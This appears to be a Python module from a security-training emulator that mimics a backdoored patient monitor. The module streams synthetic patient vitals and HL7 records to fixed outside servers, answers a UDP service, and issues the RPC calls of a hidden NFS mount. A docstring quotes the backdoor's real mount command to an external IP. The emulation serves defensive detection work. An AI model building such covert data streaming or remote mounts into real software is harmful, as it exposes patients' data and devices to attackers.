"""The backdoor's running parts: the telemetry/HL7 streamer, the hidden NFS mount, the UDP listener.

One task per monitor with a connected patient (a frame every ``telemetry_interval`` seconds), a short
task per trigger, one datagram endpoint per unfixed monitor: a 500-monitor fleet stays cheap when idle.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
from typing import Any, Protocol

from orchestrator.domain.indicators import CMS_SERVER, HL7_SERVER, NFS_PORT, PORTMAPPER_PORT
from orchestrator.emulator.backdoor import (
    Patient,
    cms_frame,
    getport_call,
    getport_result,
    hl7_message,
    mnt_call,
    open_to,
    read_rpc_reply,
    vitals,
)


class EmulatedMonitor(Protocol):
    """What the backdoor's parts use of a unit: an ``monitor.EmulatedMonitor`` on the fleet, or a hands-on
    unit on the bench (``bench_units``)."""

    index: int
    name: str
    model: str
    address: str
    online: bool
    nfs_server: str | None
    tcp_connections: dict[str, tuple[int, str, int]]

    @property
    def telemetry_interval(self) -> float: ...
    @property
    def cms_target(self) -> tuple[str, int]: ...
    @property
    def hl7_target(self) -> tuple[str, int]: ...
    def record(self, kind: str, **data: Any) -> None: ...
    def refresh_proc(self) -> None: ...

UDP_REPLY = b"CMS\x01ACK"
_BACKOFF = (0.5, 1.0, 2.0, 4.0, 5.0)
PATIENT_RECORD_EVERY = 10  # frames between two patient records on the same connection


class UdpService(asyncio.DatagramProtocol):
    """Stands in for the CVE-2024-12248 service: answers any datagram (and records it)."""

    def __init__(self, monitor: EmulatedMonitor) -> None:
        self._monitor = monitor
        self._transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = transport  # type: ignore[assignment]

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self._monitor.record("udp", peer=f"{addr[0]}:{addr[1]}", bytes=len(data))
        if self._transport is not None:
            self._transport.sendto(UDP_REPLY, addr)


class _Link:
    """One outgoing TCP stream with reconnect-and-backoff; ``None`` writer while down."""

    def __init__(self, monitor: EmulatedMonitor, target: tuple[str, int], indicator: str, label: str) -> None:
        self.monitor, self.target, self.indicator, self.label = monitor, target, indicator, label
        self.writer: asyncio.StreamWriter | None = None
        self.failures = 0
        self.retry_at = 0.0
        self.sent = 0

    async def ensure(self, now: float) -> bool:
        if self.writer is not None and not self.writer.is_closing():
            return True
        self.close()
        if now < self.retry_at:
            return False
        try:
            _reader, self.writer = await open_to(self.monitor.address, *self.target, timeout=1.0)
        except (TimeoutError, OSError):
            if self.failures == 0:
                self.monitor.record("telemetry-refused", stream=self.label, target=_fmt(self.target))
            self.retry_at = now + _BACKOFF[min(self.failures, len(_BACKOFF) - 1)]
            self.failures += 1
            return False
        self.failures, self.sent = 0, 0
        sock = self.writer.get_extra_info("sockname")
        self.monitor.tcp_connections[self.label] = (sock[1], self.indicator, self.target[1])
        self.monitor.refresh_proc()
        self.monitor.record("telemetry-connect", stream=self.label, target=_fmt(self.target))
        return True

    async def send(self, data: bytes) -> bool:
        assert self.writer is not None
        try:
            self.writer.write(data)
            async with asyncio.timeout(2.0):
                await self.writer.drain()
        except (TimeoutError, OSError):
            self.close()
            return False
        self.sent += 1
        return True

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()
            self.writer = None
            if self.monitor.tcp_connections.pop(self.label, None) is not None:
                self.monitor.refresh_proc()


def _fmt(target: tuple[str, int]) -> str:
    return f"{target[0]}:{target[1]}"


async def stream_telemetry(monitor: EmulatedMonitor, patient: Patient) -> None:
    """CVE-2025-0683: CMS blocks to .119:515 and HL7 to .120:511 while the patient is connected."""
    loop = asyncio.get_running_loop()
    rng = random.Random(monitor.index)
    cms = _Link(monitor, monitor.cms_target, str(CMS_SERVER), "cms")
    hl7 = _Link(monitor, monitor.hl7_target, str(HL7_SERVER), "hl7")
    control = itertools.count(1)
    try:
        while True:
            now = loop.time()
            values = vitals(rng)
            if await cms.ensure(now):
                with_record = cms.sent % PATIENT_RECORD_EVERY == 0
                frame = cms_frame(patient if with_record else None, values)
                if await cms.send(frame):
                    monitor.record("telemetry-frame", target=_fmt(cms.target), bytes=len(frame),
                                   patient_record=with_record)
            if await hl7.ensure(now):
                message = hl7_message(patient, values, model=monitor.model, control=next(control))
                if await hl7.send(message):
                    monitor.record("hl7-message", target=_fmt(hl7.target), bytes=len(message))
            await asyncio.sleep(monitor.telemetry_interval)
    finally:
        cms.close()
        hl7.close()


async def attempt_nfs_mount(monitor: EmulatedMonitor, server: str) -> None:
    """CVE-2025-0626/-1204: what ``mount -o nolock -t nfs 202.114.4.119:/pm /mnt`` sends.

    Portmapper GETPORT for mountd on 111; MNT "/pm" to the port it names, else to 2049. The mount counts
    as made (shown in /proc/mounts) if a listener accepted the MNT call's connection.
    """
    accepted = False
    mount_port = NFS_PORT
    try:
        reader, writer = await open_to(monitor.address, server, PORTMAPPER_PORT)
    except (TimeoutError, OSError) as exc:
        monitor.record("rpc", call="GETPORT", target=f"{server}:{PORTMAPPER_PORT}", result=type(exc).__name__)
    else:
        writer.write(getport_call(xid=0x434D5301))
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            async with asyncio.timeout(2.0):
                await writer.drain()
        port = getport_result(await read_rpc_reply(reader, 1.0))
        writer.close()
        monitor.record("rpc", call="GETPORT", target=f"{server}:{PORTMAPPER_PORT}",
                       result="accepted" if port is None else f"port {port}")
        accepted = True
        if port:
            mount_port = port
    try:
        reader, writer = await open_to(monitor.address, server, mount_port)
    except (TimeoutError, OSError) as exc:
        monitor.record("rpc", call="MNT", path="/pm", target=f"{server}:{mount_port}",
                       result=type(exc).__name__)
    else:
        writer.write(mnt_call(xid=0x434D5302))
        with contextlib.suppress(OSError, asyncio.TimeoutError):
            async with asyncio.timeout(2.0):
                await writer.drain()
        reply = await read_rpc_reply(reader, 1.0)
        writer.close()
        monitor.record("rpc", call="MNT", path="/pm", target=f"{server}:{mount_port}",
                       result="replied" if reply else "accepted")
        accepted = True
    if accepted and monitor.online:
        monitor.nfs_server = str(CMS_SERVER)
        monitor.tcp_connections["nfs"] = (786, str(CMS_SERVER), NFS_PORT)
        monitor.refresh_proc()
        monitor.record("nfs-mount", server=f"{server}:/pm", mountpoint="/mnt")
    else:
        monitor.record("nfs-mount-failed", server=f"{server}:/pm")
